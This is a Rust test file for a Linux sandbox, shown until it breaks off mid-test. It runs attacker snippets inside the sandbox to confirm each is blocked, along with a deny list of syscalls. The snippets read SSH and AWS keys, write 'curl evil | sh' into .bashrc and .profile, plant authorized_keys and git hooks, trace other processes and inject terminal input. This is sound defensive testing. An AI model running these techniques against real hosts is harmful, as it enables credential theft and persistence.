//! Real attacks from inside the sandbox, run through the `interlock-sandbox-exec` helper.
//!
//! Each test plants something on the host (fake `$HOME` with secrets, listeners, a victim process),
//! runs an attacker (python3 or bash) in the sandbox, and asserts both that the attacker reported
//! being blocked (so the attack really ran) and that the host is unchanged. Every test runs in
//! namespace mode and, where the fallback claims the protection, in the Landlock-only fallback.
//!
//! Temp dirs live under `$INTERLOCK_SANDBOX_TEST_TMP` or `/var/tmp` — not `/tmp`, which the
//! namespace sandbox replaces wholesale (that would hide the fake home for the wrong reason).

use std::ffi::OsString;
use std::io::{BufRead, BufReader, Read};
use std::net::{TcpListener, UdpSocket};
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use interlock_sandbox::{
    Isolation, Limits, NetworkMode, Policy, SandboxMode, Support, command, plan, probe,
};

/// The helper binary. `INTERLOCK_SANDBOX_TEST_HELPER` overrides it when the test binaries are copied
/// elsewhere (tests/run-as-user.sh); this is read by the tests only, never by the sandbox.
fn helper() -> PathBuf {
    std::env::var_os("INTERLOCK_SANDBOX_TEST_HELPER")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_interlock-sandbox-exec")))
}
const PY: &str = "/usr/bin/python3";

struct Env {
    ws: tempfile::TempDir,
    home: tempfile::TempDir,
}

fn base() -> PathBuf {
    std::env::var_os("INTERLOCK_SANDBOX_TEST_TMP")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp"))
}

impl Env {
    fn new() -> Env {
        let ws = tempfile::Builder::new()
            .prefix("il-ws-")
            .tempdir_in(base())
            .unwrap();
        let home = tempfile::Builder::new()
            .prefix("il-home-")
            .tempdir_in(base())
            .unwrap();
        let h = home.path();
        std::fs::create_dir_all(h.join(".ssh")).unwrap();
        std::fs::write(h.join(".ssh/id_ed25519"), "SECRET-SSH-KEY").unwrap();
        std::fs::create_dir_all(h.join(".aws")).unwrap();
        std::fs::write(h.join(".aws/credentials"), "SECRET-AWS-KEY").unwrap();
        std::fs::write(h.join(".bashrc"), "# original\n").unwrap();
        std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
        std::fs::write(ws.path().join(".git/config"), "[core]\n").unwrap();
        std::fs::write(ws.path().join("data.txt"), "workspace data\n").unwrap();
        Env { ws, home }
    }
    fn ws(&self) -> &Path {
        self.ws.path()
    }
    fn home(&self) -> &Path {
        self.home.path()
    }
    fn policy(&self) -> Policy {
        let mut p = Policy::for_workspace(
            SandboxMode::WorkspaceWrite,
            self.ws(),
            self.home(),
            &[self.home().join(".config/interlock")],
            &[],
        );
        p.limits = Limits {
            memory_bytes: Some(256 << 20),
            cpu_seconds: Some(60),
            processes: Some(64),
            file_size_bytes: Some(1 << 20),
            open_files: Some(256),
        };
        p
    }
}

/// The isolation modes to test on this machine: namespaces (if available) and the Landlock-only
/// fallback (if Landlock is available), the latter selected through `Support`, never the environment.
fn supports() -> Vec<Support> {
    let s = probe();
    let mut v = Vec::new();
    if s.user_namespaces {
        v.push(s.clone());
    } else {
        eprintln!(
            "NOTE: user namespaces unavailable here: {:?}",
            s.user_namespaces_reason
        );
    }
    if s.landlock_abi >= 1 {
        v.push(s.clone().without_user_namespaces("forced by test"));
    }
    assert!(!v.is_empty(), "this machine can't sandbox at all");
    v
}

fn ns_support() -> Option<Support> {
    let s = probe();
    s.user_namespaces.then_some(s)
}

fn cmd(env: &Env, policy: &Policy, support: &Support, program: &str, args: &[&str]) -> Command {
    let p = plan(policy, support).expect("plan");
    let vars: Vec<(OsString, OsString)> = vec![
        ("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into()),
        ("HOME".into(), env.home().into()),
        ("LANG".into(), "C.UTF-8".into()),
    ];
    let args: Vec<OsString> = args.iter().map(OsString::from).collect();
    let mut c = command(&p, Path::new(program), &args, &vars, env.ws(), &helper());
    c.stdin(Stdio::null());
    c
}

fn run(env: &Env, policy: &Policy, support: &Support, program: &str, args: &[&str]) -> Output {
    let out = cmd(env, policy, support, program, args).output().unwrap();
    eprintln!(
        "[{:?}] {program} {:?}\n  status: {:?}\n  stdout: {}\n  stderr: {}",
        plan(policy, support).unwrap().isolation,
        args.iter()
            .map(|a| a.chars().take(60).collect::<String>())
            .collect::<Vec<_>>(),
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn py(env: &Env, policy: &Policy, support: &Support, code: &str) -> String {
    let out = run(env, policy, support, PY, &["-c", code]);
    assert_ne!(out.status.code(), Some(125), "sandbox setup failed");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Python prelude: `attempt(name, fn)` prints `BLOCKED name: err` or `ESCAPED name: result`.
use interlock_testkit::PYTHON_ATTEMPT as ATTEMPT;

fn assert_blocked(out: &str, names: &[&str]) {
    assert!(!out.contains("ESCAPED"), "an attack succeeded:\n{out}");
    for n in names {
        assert!(
            out.contains(&format!("BLOCKED {n} ")),
            "attack {n} did not run/report:\n{out}"
        );
    }
}

#[test]
fn planted_secrets_are_unreadable_directly_and_via_symlink() {
    let env = Env::new();
    for s in supports() {
        let _ = std::fs::remove_file(env.ws().join("link"));
        std::os::unix::fs::symlink(env.home().join(".ssh/id_ed25519"), env.ws().join("link"))
            .unwrap();
        let _ = std::fs::remove_file(env.ws().join("dirlink"));
        std::os::unix::fs::symlink(env.home().join(".aws"), env.ws().join("dirlink")).unwrap();
        let code = format!(
            "{ATTEMPT}
h = {home:?}
attempt('ssh', lambda: open(h + '/.ssh/id_ed25519').read())
attempt('aws', lambda: open(h + '/.aws/credentials').read())
attempt('ls_ssh', lambda: [x for x in os.listdir(h + '/.ssh')] or (_ for _ in ()).throw(Exception('empty')))
attempt('symlink', lambda: open('link').read())
attempt('dirsymlink', lambda: open('dirlink/credentials').read())
",
            home = env.home().to_str().unwrap()
        );
        let out = py(&env, &env.policy(), &s, &code);
        assert!(!out.contains("SECRET"), "{out}");
        assert_blocked(&out, &["ssh", "aws", "ls_ssh", "symlink", "dirsymlink"]);
    }
}

/// Reads `path` and raises unless it yields something: an empty listing counts as blocked.
const READ_ANY: &str = r#"
def read_any(p):
    if os.path.isdir(p):
        names = os.listdir(p)
        if not names:
            raise Exception('empty')
        return names
    return open(p).read()
"#;

#[test]
fn home_is_default_deny_for_stores_on_no_list_and_ones_created_later() {
    let env = Env::new();
    let h = env.home();
    // Stores no hidden list has ever named, and one that is on none today.
    for (p, text) in [
        (".config/git/credentials", "SECRET-GIT"),
        (".claude/.credentials.json", "SECRET-CLAUDE"),
        (".pgpass", "SECRET-PG"),
        ("notes/bank.txt", "SECRET-NOTES"),
        (".bash_history", "SECRET-HIST"),
    ] {
        std::fs::create_dir_all(h.join(p).parent().unwrap()).unwrap();
        std::fs::write(h.join(p), text).unwrap();
    }
    for s in supports() {
        let go = env.ws().join("go");
        let _ = std::fs::remove_file(&go);
        let _ = std::fs::remove_dir_all(h.join(".kube"));
        // The attacker waits until the test has created a new store on the host, then reads it.
        let code = format!(
            "{ATTEMPT}{READ_ANY}
import time
h = {home:?}
for p in ['.config/git/credentials', '.claude/.credentials.json', '.pgpass', 'notes/bank.txt',
          '.bash_history', '.config', 'notes', '']:
    attempt('read:' + p, lambda: read_any(h + '/' + p))
attempt('other_homes', lambda: [n for n in os.listdir('/home') if os.listdir('/home/' + n)] or read_any('/nonexistent'))
attempt('root_home', lambda: read_any('/root'))
print('READY', flush=True)
while not os.path.exists('go'):
    time.sleep(0.05)
attempt('later:kube', lambda: read_any(h + '/.kube/config'))
attempt('later:dir', lambda: read_any(h + '/.kube'))
",
            home = h.to_str().unwrap()
        );
        let mut child = cmd(&env, &env.policy(), &s, PY, &["-c", &code])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let mut out = String::new();
        for line in lines.by_ref() {
            let line = line.unwrap();
            out.push_str(&line);
            out.push('\n');
            if line == "READY" {
                break;
            }
        }
        std::fs::create_dir_all(h.join(".kube")).unwrap();
        std::fs::write(h.join(".kube/config"), "SECRET-KUBE").unwrap();
        std::fs::write(&go, "").unwrap();
        for line in lines {
            out.push_str(&line.unwrap());
            out.push('\n');
        }
        child.wait().unwrap();
        eprintln!("{out}");
        assert!(!out.contains("SECRET"), "{out}");
        assert_blocked(
            &out,
            &[
                "read:.config/git/credentials",
                "read:.claude/.credentials.json",
                "read:.pgpass",
                "read:notes/bank.txt",
                "read:.bash_history",
                "read:.config",
                "read:notes",
                "read:",
                "other_homes",
                "root_home",
                "later:kube",
                "later:dir",
            ],
        );
    }
}

#[test]
fn writes_outside_workspace_fail_inside_succeed() {
    let env = Env::new();
    let host_tmp_marker = PathBuf::from(format!("/tmp/il-host-marker-{}", std::process::id()));
    for s in supports() {
        let ns = plan(&env.policy(), &s).unwrap().isolation == Isolation::Namespaces;
        let code = format!(
            "{ATTEMPT}
h = {home:?}
attempt('home', lambda: open(h + '/evil', 'w').write('x'))
attempt('bashrc', lambda: open(h + '/.bashrc', 'a').write('evil'))
attempt('etc', lambda: open('/etc/evil', 'w').write('x'))
attempt('vartmp', lambda: open('/var/tmp/il-evil-{pid}', 'w').write('x'))
attempt('devshm_host', lambda: open('/dev/shm/../evil', 'w').write('x'))
open('ws-file.txt', 'w').write('ok'); print('WS_OK')
os.makedirs('sub/dir', exist_ok=True); open('sub/dir/f', 'w').write('ok'); print('WS_SUB_OK')
if {ns}:
    open('{marker}', 'w').write('x'); print('TMP_OK')
",
            home = env.home().to_str().unwrap(),
            pid = std::process::id(),
            ns = if ns { "True" } else { "False" },
            marker = host_tmp_marker.display(),
        );
        let out = py(&env, &env.policy(), &s, &code);
        assert_blocked(&out, &["home", "bashrc", "etc", "vartmp", "devshm_host"]);
        assert!(out.contains("WS_OK") && out.contains("WS_SUB_OK"), "{out}");
        assert_eq!(
            std::fs::read_to_string(env.ws().join("ws-file.txt")).unwrap(),
            "ok"
        );
        assert!(!env.home().join("evil").exists());
        assert_eq!(
            std::fs::read_to_string(env.home().join(".bashrc")).unwrap(),
            "# original\n"
        );
        assert!(!Path::new("/etc/evil").exists());
        if ns {
            assert!(out.contains("TMP_OK"), "{out}");
            assert!(!host_tmp_marker.exists(), "private /tmp leaked to the host");
        }
    }
}

#[test]
fn private_host_tmp_dir_is_writable() {
    let env = Env::new();
    let tmp = tempfile::Builder::new()
        .prefix("il-ptmp-")
        .tempdir_in(base())
        .unwrap();
    for s in supports() {
        let mut pol = env.policy();
        pol.private_tmp = interlock_sandbox::PrivateTmp::HostDir(tmp.path().to_path_buf());
        let ns = plan(&pol, &s).unwrap().isolation == Isolation::Namespaces;
        let target = if ns {
            "/tmp/t".to_string()
        } else {
            format!("{}/t", tmp.path().display())
        };
        let out = py(
            &env,
            &pol,
            &s,
            &format!("open({target:?}, 'w').write('x'); print('OK')"),
        );
        assert!(out.contains("OK"));
        assert!(tmp.path().join("t").exists());
        std::fs::remove_file(tmp.path().join("t")).unwrap();
    }
}

#[test]
fn hard_link_to_outside_file_fails() {
    let env = Env::new();
    for s in supports() {
        let code = format!(
            "{ATTEMPT}
h = {home:?}
def link_and_write():
    os.link(h + '/.bashrc', 'bashrc-link')
    open('bashrc-link', 'a').write('evil')
attempt('hardlink', link_and_write)
attempt('hardlink_secret', lambda: os.link(h + '/.ssh/id_ed25519', 'key'))
",
            home = env.home().to_str().unwrap()
        );
        let out = py(&env, &env.policy(), &s, &code);
        assert_blocked(&out, &["hardlink", "hardlink_secret"]);
        assert_eq!(
            std::fs::read_to_string(env.home().join(".bashrc")).unwrap(),
            "# original\n"
        );
    }
}

#[test]
fn a_workspace_at_home_cannot_plant_startup_files_even_ones_that_do_not_exist() {
    // The user starts interlock in $HOME: the workspace is the home directory, which has no ~/.ssh
    // yet (hiding cannot cover a path that does not exist). Code must not create
    // ~/.ssh/authorized_keys or autostart entries, nor append to ~/.bashrc: all run outside later.
    let env = Env::new();
    let home = tempfile::Builder::new()
        .prefix("il-bare-home-")
        .tempdir_in(base())
        .unwrap();
    let h = home.path();
    std::fs::write(h.join(".bashrc"), "# original\n").unwrap();
    for s in supports() {
        let mut policy = Policy::for_workspace(SandboxMode::WorkspaceWrite, h, h, &[], &[]);
        policy.limits = env.policy().limits;
        let p = plan(&policy, &s).expect("plan");
        assert!(
            p.notes.iter().any(|n| n.contains("may not write")),
            "{:?}",
            p.notes
        );
        let code = format!(
            "{ATTEMPT}
h = {h:?}
os.chdir(h)
attempt('mkdir_ssh', lambda: os.makedirs(h + '/.ssh', exist_ok=True) or open(h + '/.ssh/authorized_keys', 'w').write('ssh-ed25519 AAAA attacker'))
attempt('bashrc', lambda: open(h + '/.bashrc', 'a').write('curl evil | sh\\n'))
attempt('autostart', lambda: os.makedirs(h + '/.config/autostart', exist_ok=True))
attempt('profile', lambda: open(h + '/.profile', 'w').write('curl evil | sh\\n'))
print('RAN')
",
            h = h.to_str().unwrap()
        );
        let vars: Vec<(OsString, OsString)> = vec![
            ("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into()),
            ("HOME".into(), h.into()),
        ];
        let args: Vec<OsString> = vec!["-c".into(), code.into()];
        let out = command(&p, Path::new(PY), &args, &vars, h, &helper())
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        eprintln!("{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
        assert_blocked(&stdout, &["mkdir_ssh", "bashrc", "autostart", "profile"]);
        assert!(stdout.contains("RAN"), "{stdout}");
        assert!(!h.join(".ssh").exists());
        assert!(!h.join(".config").exists());
        assert!(!h.join(".profile").exists());
        assert_eq!(
            std::fs::read_to_string(h.join(".bashrc")).unwrap(),
            "# original\n"
        );
    }
}

/// Runs host git in `dir` the way a user would afterwards, with a clean environment.
fn host_git(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", dir)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.org")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.org")
        .output()
        .expect("git")
}

#[test]
fn git_cannot_be_redirected_or_given_hooks() {
    // Only the namespace mode protects these (the fallback plan says so in its notes).
    let Some(s) = ns_support() else { return };
    let env = Env::new();
    let ws = env.ws();
    // Real repositories: the workspace's own, one two levels down, and a worktree-style `.git` file.
    std::fs::remove_dir_all(ws.join(".git")).unwrap();
    for dir in [ws.to_path_buf(), ws.join("a/b")] {
        std::fs::create_dir_all(&dir).unwrap();
        let out = host_git(&dir, &["init", "-q"]);
        assert!(out.status.success(), "{out:?}");
        let out = host_git(&dir, &["commit", "-q", "--allow-empty", "-m", "init"]);
        assert!(out.status.success(), "{out:?}");
    }
    std::fs::create_dir_all(ws.join("linked")).unwrap();
    std::fs::write(ws.join("linked/.git"), "gitdir: ../a/b/.git\n").unwrap();
    let marker = env.home().join("HOOK-RAN");
    let m = marker.display();
    let code = format!(
        "{ATTEMPT}
import shutil
hook = '#!/bin/sh\\ntouch {m}\\n'
def plant(path, text, mode=0o755):
    open(path, 'w').write(text)
    os.chmod(path, mode)
def redirect():
    # The red team's route: a copy of the repository with a hook and fsmonitor, then commondir.
    shutil.copytree('.git', '.cache/g', ignore=shutil.ignore_patterns('hooks', 'config'))
    os.makedirs('.cache/g/hooks')
    plant('.cache/g/hooks/pre-commit', hook)
    plant('.cache/g/config', '[core] fsmonitor = touch {m}\\n', 0o644)
    open('.git/commondir', 'w').write('../.cache/g\\n')
attempt('commondir', redirect)
attempt('hook', lambda: plant('.git/hooks/pre-commit', hook))
attempt('config', lambda: open('.git/config', 'a').write('[core] fsmonitor = touch {m}\\n'))
attempt('config_worktree', lambda: plant('.git/config.worktree', '[core]\\nhooksPath=/tmp\\n', 0o644))
attempt('info', lambda: plant('.git/info/attributes', '* filter=x\\n', 0o644))
attempt('worktrees', lambda: os.makedirs('.git/worktrees/x'))
attempt('head', lambda: open('.git/HEAD', 'w').write('ref: refs/heads/evil\\n'))
attempt('rename_git', lambda: os.rename('.git', '.git-old'))
attempt('rmtree_git', lambda: shutil.rmtree('.git'))
attempt('nested_hook', lambda: plant('a/b/.git/hooks/post-checkout', hook))
attempt('nested_config', lambda: open('a/b/.git/config', 'a').write('[alias]\\n st = !touch {m}\\n'))
attempt('rename_parent', lambda: os.rename('a', 'a2'))
attempt('rename_nested', lambda: os.rename('a/b', 'a/c'))
attempt('gitdir_file', lambda: open('linked/.git', 'w').write('gitdir: ../.cache/g\\n'))
attempt('gitdir_file_rm', lambda: os.unlink('linked/.git'))
open('a/b/work.txt', 'w').write('fine'); print('WS_OK')
"
    );
    let out = py(&env, &env.policy(), &s, &code);
    assert_blocked(
        &out,
        &[
            "commondir",
            "hook",
            "config",
            "config_worktree",
            "info",
            "worktrees",
            "head",
            "rename_git",
            "rmtree_git",
            "nested_hook",
            "nested_config",
            "rename_parent",
            "rename_nested",
            "gitdir_file",
            "gitdir_file_rm",
        ],
    );
    assert!(out.contains("WS_OK"), "{out}");
    // The user's next git commands on the host run nothing the sandbox planted.
    for dir in [ws.to_path_buf(), ws.join("a/b"), ws.join("linked")] {
        let st = host_git(&dir, &["status", "--short"]);
        assert!(st.status.success(), "{}: {st:?}", dir.display());
        let c = host_git(&dir, &["commit", "-q", "--allow-empty", "-m", "after"]);
        assert!(c.status.success(), "{}: {c:?}", dir.display());
        let _ = host_git(&dir, &["st"]);
    }
    assert!(
        !marker.exists(),
        "a hook or setting planted in the sandbox ran on the host"
    );
    assert!(!ws.join(".git/commondir").exists());
}

#[test]
fn network_is_off_tcp_udp_dns() {
    let env = Env::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let (tp, up) = (
        tcp.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port(),
    );
    for s in supports() {
        let code = format!(
            "{ATTEMPT}
def tcp():
    c = socket.create_connection(('127.0.0.1', {tp}), timeout=2); c.send(b'hi'); return 'connected'
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return u.sendto(b'hi', ('127.0.0.1', {up}))
def udp6():
    u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); return u.sendto(b'hi', ('::1', {up}))
attempt('tcp', tcp)
attempt('udp', udp)
attempt('udp6', udp6)
attempt('dns', lambda: socket.getaddrinfo('example.com', 80))
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
"
        );
        let out = py(&env, &env.policy(), &s, &code);
        assert_blocked(&out, &["tcp", "udp", "udp6", "dns", "netlink"]);
        assert!(tcp.accept().is_err(), "listener got a connection");
        let mut b = [0u8; 16];
        assert!(udp.recv_from(&mut b).is_err(), "listener got a datagram");
    }
}

#[test]
fn unix_sockets_outside_are_unreachable() {
    let env = Env::new();
    let path = env.home().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    use std::os::linux::net::SocketAddrExt;
    let name = format!("interlock-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let abs = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    abs.set_nonblocking(true).unwrap();
    for s in supports() {
        let code = format!(
            "{ATTEMPT}
def conn(addr):
    def f():
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); c.connect(addr); c.send(b'hi'); return 'connected'
    return f
attempt('pathname', conn({path:?}))
attempt('abstract', conn('\\0{name}'))
",
            path = path.to_str().unwrap()
        );
        // network off: no sockets at all
        let out = py(&env, &env.policy(), &s, &code);
        assert_blocked(&out, &["pathname", "abstract"]);
        // network on: abstract sockets of the host are still out of reach (Landlock scope, ABI >= 6).
        // (Pathname sockets visible in the mount tree are reachable with the network on: see the
        // crate docs; the well-known daemon sockets are in the default hidden list.)
        if s.landlock_abi >= 6 {
            let mut pol = env.policy();
            pol.network = NetworkMode::Full;
            let code = code.replace("attempt('pathname'", "# attempt('pathname'");
            let out = py(&env, &pol, &s, &code);
            assert_blocked(&out, &["abstract"]);
        }
        assert!(
            listener.accept().is_err() && abs.accept().is_err(),
            "a listener got a connection"
        );
    }
}

fn victim() -> Child {
    Command::new("/bin/sleep")
        .arg("60")
        .env("VICTIM_SECRET", "SECRET-IN-ENVIRON")
        .spawn()
        .unwrap()
}

#[test]
fn other_processes_cannot_be_read_traced_or_killed() {
    let env = Env::new();
    let mut v = victim();
    let vp = v.id();
    let me = std::process::id();
    for s in supports() {
        let code = format!(
            "{ATTEMPT}
def rd(p):
    def f():
        d = open(p, 'rb').read()
        if not d: raise Exception('empty')
        return d
    return f
attempt('victim_environ', rd('/proc/{vp}/environ'))
attempt('parent_environ', rd('/proc/{me}/environ'))
def init_env():
    d = open('/proc/1/environ', 'rb').read()
    if b'SECRET-IN-ENVIRON' not in d: raise Exception('no secret there')
    return d
attempt('init_environ', init_env)
attempt('victim_mem', rd('/proc/{vp}/mem'))
attempt('ptrace', sys_call('ptrace', lambda: libc.ptrace(16, {vp}, 0, 0)))
attempt('ptrace_parent', sys_call('ptrace', lambda: libc.ptrace(16, os.getppid(), 0, 0)))
attempt('vm_read', sys_call('process_vm_readv', lambda: libc.syscall(310, {vp}, 0, 0, 0, 0, 0)))
"
        );
        let mut names = vec![
            "victim_environ",
            "parent_environ",
            "init_environ",
            "victim_mem",
            "ptrace",
            "ptrace_parent",
            "vm_read",
        ];
        // Without a pid namespace only Landlock ABI 6 (Linux 6.12) scopes signals; below that
        // the plan must say so instead.
        let code = if s.user_namespaces || s.landlock_abi >= 6 {
            names.extend(["kill_victim", "kill_parent"]);
            format!(
                "{code}attempt('kill_victim', lambda: os.kill({vp}, signal.SIGTERM))
attempt('kill_parent', lambda: os.kill({me}, 0))
"
            )
        } else {
            let p = plan(&env.policy(), &s).unwrap();
            assert!(
                p.notes.iter().any(|n| n.contains("signal")),
                "{:?}",
                p.notes
            );
            code
        };
        let out = py(&env, &env.policy(), &s, &code);
        assert!(!out.contains("SECRET-IN-ENVIRON"), "{out}");
        assert_blocked(&out, &names);
        assert!(v.try_wait().unwrap().is_none(), "victim was killed");
    }
    v.kill().unwrap();
    v.wait().unwrap();
}

#[test]
fn tiocsti_into_the_terminal_is_denied() {
    use nix::pty::openpty;
    let env = Env::new();
    for s in supports() {
        let pty = openpty(None, None).unwrap();
        let mut c = cmd(&env, &env.policy(), &s, PY, &["-c", &format!(
            "{ATTEMPT}
import fcntl, termios
attempt('tiocsti', lambda: fcntl.ioctl(0, termios.TIOCSTI, b'x'))
attempt('tiocsti_hi', lambda: libc.ioctl(0, ctypes.c_ulong(termios.TIOCSTI | (1 << 32)), ctypes.c_char_p(b'x')) == -1 and (_ for _ in ()).throw(OSError(ctypes.get_errno(), 'ioctl')))
attempt('tioclinux', lambda: fcntl.ioctl(0, 0x541C, b'\\x06'))
")]);
        c.stdin(Stdio::from(std::fs::File::from(pty.slave)));
        let out = c.output().unwrap();
        let out = String::from_utf8_lossy(&out.stdout).into_owned();
        eprintln!("{out}");
        assert_blocked(&out, &["tiocsti", "tiocsti_hi", "tioclinux"]);
        // EPERM is seccomp's answer (without the filter TIOCSTI succeeds on this pty, or ENOTTY/EIO)
        assert!(out.contains("BLOCKED tiocsti PermissionError"), "{out}");
        // nothing was injected into the terminal
        nix::fcntl::fcntl(
            &pty.master,
            nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
        )
        .unwrap();
        let mut b = [0u8; 64];
        let n = nix::unistd::read(&pty.master, &mut b).unwrap_or(0);
        assert!(
            !b[..n].contains(&b'x'),
            "injected input echoed: {:?}",
            &b[..n]
        );
    }
}

/// Every syscall on the deny list answers `EPERM` inside the sandbox, called with zero arguments.
/// Zero arguments make most of them fail differently (`EFAULT`, `EINVAL`, `EBADF`) or succeed
/// harmlessly (`unshare(0)`, `ptrace(PTRACE_TRACEME)`, `iopl(0)`) when they reach the kernel, so
/// a gap in the filter shows; none of them can do harm with zeros.
#[cfg(target_arch = "x86_64")]
#[test]
fn every_denied_syscall_answers_eperm() {
    use libc::*;
    let numbers: &[(&str, c_long)] = &[
        ("ptrace", SYS_ptrace),
        ("process_vm_readv", SYS_process_vm_readv),
        ("process_vm_writev", SYS_process_vm_writev),
        ("io_uring_setup", SYS_io_uring_setup),
        ("io_uring_enter", SYS_io_uring_enter),
        ("io_uring_register", SYS_io_uring_register),
        ("bpf", SYS_bpf),
        ("perf_event_open", SYS_perf_event_open),
        ("userfaultfd", SYS_userfaultfd),
        ("keyctl", SYS_keyctl),
        ("add_key", SYS_add_key),
        ("request_key", SYS_request_key),
        ("kexec_load", SYS_kexec_load),
        ("kexec_file_load", SYS_kexec_file_load),
        ("init_module", SYS_init_module),
        ("finit_module", SYS_finit_module),
        ("delete_module", SYS_delete_module),
        ("mount", SYS_mount),
        ("umount2", SYS_umount2),
        ("pivot_root", SYS_pivot_root),
        ("chroot", SYS_chroot),
        ("unshare", SYS_unshare),
        ("setns", SYS_setns),
        ("mount_setattr", SYS_mount_setattr),
        ("open_tree", SYS_open_tree),
        ("move_mount", SYS_move_mount),
        ("fsopen", SYS_fsopen),
        ("fsconfig", SYS_fsconfig),
        ("fsmount", SYS_fsmount),
        ("fspick", SYS_fspick),
        ("open_by_handle_at", SYS_open_by_handle_at),
        ("name_to_handle_at", SYS_name_to_handle_at),
        ("swapon", SYS_swapon),
        ("swapoff", SYS_swapoff),
        ("reboot", SYS_reboot),
        ("acct", SYS_acct),
        ("syslog", SYS_syslog),
        ("iopl", SYS_iopl),
        ("ioperm", SYS_ioperm),
    ];
    let mut listed: Vec<&str> = numbers.iter().map(|(n, _)| *n).collect();
    let mut denied: Vec<&str> = interlock_sandbox::DENIED_SYSCALLS.to_vec();
    listed.sort_unstable();
    denied.sort_unstable();
    assert_eq!(listed, denied, "this test must try every denied syscall");

    let calls: String = numbers
        .iter()
        .map(|(name, nr)| {
            format!(
                "r = libc.syscall({nr}, 0, 0, 0, 0, 0, 0); e = ctypes.get_errno()\n\
                 print('DENIED' if r == -1 and e == 1 else 'REACHED', {name:?}, r, e)\n"
            )
        })
        .collect();
    let code = format!(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n{calls}print('DONE')"
    );
    let env = Env::new();
    for s in supports() {
        let out = py(&env, &env.policy(), &s, &code);
        assert!(out.contains("DONE"), "{out}");
        assert!(
            !out.contains("REACHED"),
            "a denied syscall reached the kernel:\n{out}"
        );
        assert_eq!(out.matches("DENIED").count(), numbers.len(), "{out}");
    }
}

#[test]
fn namespaces_mounts_and_kernel_interfaces_are_denied() {
    let env = Env::new();
    for s in supports() {
        let code = format!(
            "{ATTEMPT}
attempt('unshare_user', sys_call('unshare', lambda: libc.unshare(0x10000000)))
attempt('unshare_mnt', sys_call('unshare', lambda: libc.unshare(0x00020000)))
attempt('mount', sys_call('mount', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))
attempt('umount', sys_call('umount2', lambda: libc.umount2(b'/proc', 2)))
def setns():
    fd = os.open('/proc/self/ns/net', os.O_RDONLY)
    return sys_call('setns', lambda: libc.setns(fd, 0))()
attempt('setns', setns)
attempt('clone_newuser', sys_call('clone', lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)))
attempt('io_uring', sys_call('io_uring_setup', lambda: libc.syscall(425, 1, ctypes.create_string_buffer(120))))
attempt('bpf', sys_call('bpf', lambda: libc.syscall(321, 0, 0, 0)))
attempt('keyctl', sys_call('add_key', lambda: libc.syscall(248, b'user', b'k', b'v', 1, -3)))
attempt('personality', sys_call('personality', lambda: libc.personality(0x0040000)))
attempt('x32', sys_call('x32', lambda: libc.syscall(0x40000000 | 39)))
"
        );
        let out = py(&env, &env.policy(), &s, &code);
        assert_blocked(
            &out,
            &[
                "unshare_user",
                "unshare_mnt",
                "mount",
                "umount",
                "setns",
                "clone_newuser",
                "io_uring",
                "bpf",
                "keyctl",
                "personality",
                "x32",
            ],
        );
        // EPERM from the filter, not a missing feature
        assert!(
            out.contains("BLOCKED unshare_user PermissionError [Errno 1]"),
            "{out}"
        );
        assert!(
            out.contains("BLOCKED clone_newuser PermissionError [Errno 1]"),
            "{out}"
        );
        // the unshare(1) tool (clone3 -> ENOSYS -> clone with CLONE_NEWUSER -> EPERM) fails too
        let out = run(
            &env,
            &env.policy(),
            &s,
            "/usr/bin/unshare",
            &["-U", "/bin/true"],
        );
        assert!(!out.status.success());
    }
}

#[test]
fn setuid_binaries_gain_nothing() {
    let env = Env::new();
    for s in supports() {
        let out = run(
            &env,
            &env.policy(),
            &s,
            "/bin/sh",
            &[
                "-c",
                "/usr/bin/su root -c 'grep -E \"^(CapEff|CapPrm)\" /proc/self/status; id -u' </dev/null 2>&1; echo \"after su: euid=$(id -u)\"; grep -E '^(CapEff|CapPrm|CapInh|CapAmb|CapBnd|NoNewPrivs)' /proc/self/status",
            ],
        );
        let o = String::from_utf8_lossy(&out.stdout);
        assert!(o.contains("NoNewPrivs:\t1"), "{o}");
        let me = nix::unistd::geteuid().as_raw();
        let ns = plan(&env.policy(), &s).unwrap().isolation == Isolation::Namespaces;
        for l in o.lines().filter(|l| l.starts_with("Cap")) {
            // Without a user namespace an unprivileged process cannot shrink its bounding set (no
            // CAP_SETPCAP); it has no permitted capabilities and no_new_privs, so it cannot use it.
